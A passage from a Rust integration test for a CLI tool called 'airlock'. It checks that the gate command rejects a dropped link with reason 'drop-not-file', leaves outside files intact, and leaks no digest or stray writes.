            .unwrap_or_else(|e| panic!("status --json ({e}): {}", show(&status)));
        assert_ne!(st[0]["state"], "landed", "{st}");
        let fetch = run(cmd(&bin("airlock"))
            .arg("--home")
            .arg(&w.home)
            .args(["fetch", &id, "--json"]));
        let out = w.gate(&id, &[]);
        assert_eq!(out.status.code(), Some(4), "{}", show(&out));
        let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(reason_codes(&report), ["drop-not-file"], "{report:#}");
        let detail = report["reasons"][0]["detail"].as_str().unwrap();
        assert!(detail.contains("store.link"), "{detail}");
        let entries = w.ledger(&id);
        assert!(entries
            .iter()
            .any(|(k, _, c, _)| k == "reject" && c == "drop-not-file"));
        let mut outputs = [
            status.stdout,
            status.stderr,
            fetch.stdout,
            fetch.stderr,
            out.stdout,
            out.stderr,
        ]
        .concat();
        outputs.extend_from_slice(detail.as_bytes());
        // The outside directory holds the envelope and the link in the whole-directory case.
        let n = std::fs::read_dir(s.dir.path()).unwrap().count();
        if whole_dir {
            assert_eq!(n, 4);
            assert!(s.secret.exists() && s.tarball.exists());
        } else {
            s.intact(&w, &outputs);
        }
        assert!(!contains(&outputs, s.sha.as_bytes()), "the digest leaked");
        let new: Vec<_> = w.outside(&id).difference(&before).cloned().collect();
        assert!(new.is_empty(), "written outside: {new:?}");
    }
}
